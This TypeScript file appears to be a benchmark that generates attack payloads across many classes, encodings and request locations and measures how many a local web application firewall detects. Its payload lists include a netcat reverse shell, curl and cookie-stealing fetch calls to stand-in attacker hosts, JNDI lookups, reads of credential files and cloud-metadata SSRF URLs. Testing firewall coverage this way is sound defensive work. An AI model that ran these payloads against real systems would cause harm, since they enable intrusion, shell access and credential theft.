/*
 * Attacks of our own: payloads × encodings × places, and how many inspection finds, by class.
 * node --conditions=source bench/waf-attacks.ts [count] [seed] [--show]
 */
import { waf, wafInspector } from '../packages/core/src/waf/waf.ts';
import { type BenchRequest, chance, type Chance, judge } from './waf-requests.ts';

const number = (pick: Chance) => String(1 + pick.below(9000));
const word = (pick: Chance) => pick.of(['id', 'users', 'admin', 'login', 'email', 'orders', 'name', 'x', 'token']);
const host = (pick: Chance) => pick.of(['evil.example', '203.0.113.7', 'a.attacker.example:8443']);
const program = (pick: Chance) =>
  pick.of([
    'id',
    'whoami',
    'cat /etc/passwd',
    'uname -a',
    `curl http://${host(pick)}/x`,
    'ls -la /',
    'sleep 5',
    'nc -e /bin/sh 203.0.113.7 4444',
  ]);
const file = (pick: Chance) =>
  pick.of([
    'etc/passwd',
    'etc/shadow',
    'proc/self/environ',
    'windows/win.ini',
    'boot.ini',
    'var/log/apache2/access.log',
  ]);
const call = (pick: Chance) =>
  pick.of([
    'alert(1)',
    'confirm`1`',
    'prompt(document.domain)',
    `fetch('//${host(pick)}/'+document.cookie)`,
    'eval(name)',
    'top["al"+"ert"](1)',
  ]);

type Payload = (pick: Chance) => string;

const PAYLOADS: Readonly<Record<string, readonly Payload[]>> = {
  sqli: [
    (pick) => `${number(pick)}' OR '${number(pick)}'='${number(pick)}`,
    (pick) => `${word(pick)}' AND ${number(pick)}=${number(pick)}-- -`,
    (pick) => `-${number(pick)} UNION ALL SELECT ${Array.from({ length: 1 + pick.below(6) }, () => 'NULL').join(',')}#`,
    (pick) => `') UNION SELECT ${word(pick)},2 FROM ${word(pick)}--`,
    (pick) => `${number(pick)}; DROP TABLE ${word(pick)}`,
    (pick) => `1 AND (SELECT ${number(pick)} FROM (SELECT(SLEEP(${1 + pick.below(9)})))a)`,
    () => `'; WAITFOR DELAY '0:0:5'--`,
    (pick) => `${number(pick)}) OR (${number(pick)}=${number(pick)}`,
    (pick) => `${number(pick)} OR 1=1 LIMIT 1`,
    (pick) => `" OR "${word(pick)}"="${word(pick)}`,
    () => `admin'--`,
    (pick) => `1 ORDER BY ${number(pick)}--`,
    () => `1 AND extractvalue(1,concat(0x7e,version()))`,
    (pick) => `(CASE WHEN (${number(pick)}=1) THEN 1 ELSE 2 END)`,
    (pick) => `1/**/UNION/**/SELECT/**/${word(pick)}/**/FROM/**/${word(pick)}`,
    (pick) => `'||(SELECT ${word(pick)} FROM ${word(pick)} LIMIT 1)||'`,
  ],
  xss: [
    (pick) => `<script>${call(pick)}</script>`,
    (pick) => `"><img src=x onerror=${call(pick)}>`,
    (pick) => `<svg/onload=${call(pick)}>`,
    (pick) => `javascript:${call(pick)}`,
    (pick) => `' onfocus=${call(pick)} autofocus='`,
    (pick) => `<iframe src="javascript:${call(pick)}">`,
    (pick) => `';${call(pick)}//`,
    (pick) => `<details open ontoggle=${call(pick)}>`,
    (pick) => `<ScRiPt src=//${host(pick)}/x.js></ScRiPt>`,
    (pick) => `<a href="java\tscript:${call(pick)}">x</a>`,
    (pick) => `\${${call(pick)}}`,
    () => `<math><mtext><style><img src onerror=x()>`,
    () => `<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`,
  ],
  rce: [
    (pick) => `; ${program(pick)}`,
    (pick) => `| ${program(pick)}`,
    (pick) => `&& ${program(pick)}`,
    (pick) => `$(${program(pick)})`,
    (pick) => `\`${program(pick)}\``,
    (pick) => `x\n${program(pick)}`,
    (pick) => `() { :;}; ${program(pick)}`,
    () => `cmd /c dir c:\\`,
    () => `c'a't$IFS/et\\c/pas"s"wd`,
    () => `python3 -c 'import os; os.system("id")'`,
    () => `require('child_process').execSync('id')`,
    () => `powershell -enc SQBFAFgA`,
  ],
  lfi: [
    (pick) => `${'../'.repeat(2 + pick.below(8))}${file(pick)}`,
    (pick) => `${'..\\'.repeat(2 + pick.below(8))}${file(pick).replaceAll('/', '\\')}`,
    (pick) => `/${file(pick)}`,
    (pick) => `....//....//${file(pick)}`,
    (pick) => `..%252f..%252f${file(pick)}`,
    (pick) => `file:///${file(pick)}`,
    () => 'php://filter/convert.base64-encode/resource=index.php',
  ],
  ssrf: [
    () => 'http://169.254.169.254/latest/meta-data/iam/',
    (pick) => `gopher://127.0.0.1:${number(pick)}/_x`,
    (pick) => `http://localhost:${number(pick)}/admin`,
    () => 'http://0x7f000001/',
    () => 'http://[::ffff:127.0.0.1]/',
    () => 'dict://127.0.0.1:6379/info',
  ],
  ssti: [
    (pick) => `{{${number(pick)}*${number(pick)}}}`,
    (pick) => `\${${number(pick)}*7}`,
    () => `{{''.__class__.__mro__[1].__subclasses__()}}`,
    (pick) => `<%= ${number(pick)} * 7 %>`,
    () => `{{config.items()}}`,
    () => `#{7*7}`,
    () => `\${T(java.lang.Runtime).getRuntime().exec('id')}`,
  ],
  java: [
    (pick) => `\${jndi:ldap://${host(pick)}/a}`,
    (pick) => `\${\${lower:j}ndi:\${lower:l}dap://${host(pick)}/a}`,
    () => '${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}',
    () => 'java.lang.ProcessBuilder',
  ],
  nosqli: [
    () => `{"$gt": ""}`,
    () => `'; return true; var a='`,
    () => `' || this.password.match(/a/)//`,
    () => `{ $where: "sleep(1000)" }`,
  ],
  ldap: [() => '*)(uid=*))(|(uid=*', () => 'admin)(|(password=*)', () => '*)(objectClass=*'],
  xxe: [
    () => '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    (pick) => `<!DOCTYPE a SYSTEM "http://${host(pick)}/x.dtd">`,
  ],
  ssi: [
    () => '<!--#exec cmd="id" -->',
    () => '<!--#include virtual="/etc/passwd" -->',
    (pick) => `<esi:include src="http://${host(pick)}/"/>`,
  ],
  crlf: [(pick) => `x\r\nSet-Cookie: a=${number(pick)}`, (pick) => `x\r\n\r\nHTTP/1.1 200 OK\r\n`.concat(number(pick))],
  mail: [(pick) => `a@b.example\r\nBcc: c@${host(pick)}`, () => 'x\r\nRCPT TO: <a@b.example>\r\n'],
  php: [
    () => `<?php system('id'); ?>`,
    () => 'O:8:"Evil\\Obj":1:{s:1:"a";i:1;}',
    () => 'phpinfo();',
    () => '$_GET[0]($_GET[1])',
  ],
};

type Encoding = (text: string) => string;

const hex = (character: string, width: number) => character.charCodeAt(0).toString(16).padStart(width, '0');
const ENCODINGS: readonly Encoding[] = [
  (text) => text,
  (text) => text,
  (text) => encodeURIComponent(text),
  (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) => text.replaceAll(/[^A-Za-z0-9 ]/g, (it) => `\\u${hex(it, 4)}`),
  (text) => text.replaceAll(/[<>"'&]/g, (it) => `&#x${hex(it, 2)};`),
  (text) => text.replaceAll(/[^A-Za-z0-9 ]/g, (it) => `\\x${hex(it, 2)}`),
  (text) => Buffer.from(text).toString('base64'),
  (text) => Buffer.from(text).toString('base64url'),
  (text) => text.replaceAll(/[a-z]/g, (it) => (it.charCodeAt(0) % 2 === 0 ? it.toUpperCase() : it)),
  (text) => text.replaceAll(/[!-~]/g, (it) => String.fromCharCode(it.charCodeAt(0) + 0xfee0)),
];

type Place = (value: string, pick: Chance) => BenchRequest;

const post = (type: string, body: string): BenchRequest => ({
  method: 'POST',
  path: '/api/items',
  headers: { 'content-type': type },
  body,
});
const deep = (value: unknown, depth: number): unknown => (depth === 0 ? value : [{ inner: deep(value, depth - 1) }]);
const PLACES: readonly Place[] = [
  (value, pick) => ({
    method: 'GET',
    path: `/api/items?page=1&${word(pick)}=${encodeURIComponent(value)}`,
    headers: {},
    body: '',
  }),
  (value, pick) => post('application/x-www-form-urlencoded', `page=1&${word(pick)}=${encodeURIComponent(value)}`),
  (value, pick) => post('application/json', JSON.stringify({ page: 1, [word(pick)]: value })),
  (value, pick) => post('application/json', JSON.stringify(deep(value, 5 + pick.below(20)))),
  (value) =>
    post('application/json', JSON.stringify({ tags: [...Array.from({ length: 300 }, (_, at) => `t${at}`), value] })),
  (value) =>
    post(
      'multipart/form-data; boundary=b',
      `--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n${value}\r\n--b--\r\n`,
    ),
  (value) => post('application/xml', `<?xml version="1.0"?><a><![CDATA[${value}]]></a>`),
  (value) => ({ method: 'GET', path: '/', headers: { cookie: `a=1; b=${encodeURIComponent(value)}` }, body: '' }),
  (value) => ({ method: 'GET', path: '/', headers: { 'x-custom': value.replaceAll(/[\r\n]/g, ' ') }, body: '' }),
];

function main(): void {
  const [count = 10_000, seed = 1] = process.argv
    .slice(2)
    .filter((argument) => /^\d+$/.test(argument))
    .map(Number);
  const inspect = waf({ threshold: 5, classThresholds: {}, fields: [], exceptions: [] }, wafInspector());
  const pick = chance(seed);
  const byClass = new Map<string, { all: number; found: number }>();
  for (let index = 0; index < count; index += 1) {
    const cls = pick.of(Object.keys(PAYLOADS));
    const payload = pick.of(PAYLOADS[cls] ?? [])(pick);
    const value = pick.of(ENCODINGS)(payload);
    const request = pick.of(PLACES)(value, pick);
    const tally = byClass.get(cls) ?? { all: 0, found: 0 };
    byClass.set(cls, tally);
    tally.all += 1;
    if (judge(inspect, request) !== undefined) tally.found += 1;
    else if (process.argv.includes('--show'))
      console.log(
        `${cls}: ${payload} | ${value.slice(0, 100)} | ${request.path.slice(0, 16)} ${request.headers['content-type'] ?? ''}`,
      );
  }
  for (const [cls, { all, found }] of [...byClass].toSorted(([one], [other]) => (one < other ? -1 : 1)))
    console.log(`${cls.padEnd(8)} ${((100 * found) / all).toFixed(1).padStart(6)} % of ${all}`);
}

main();
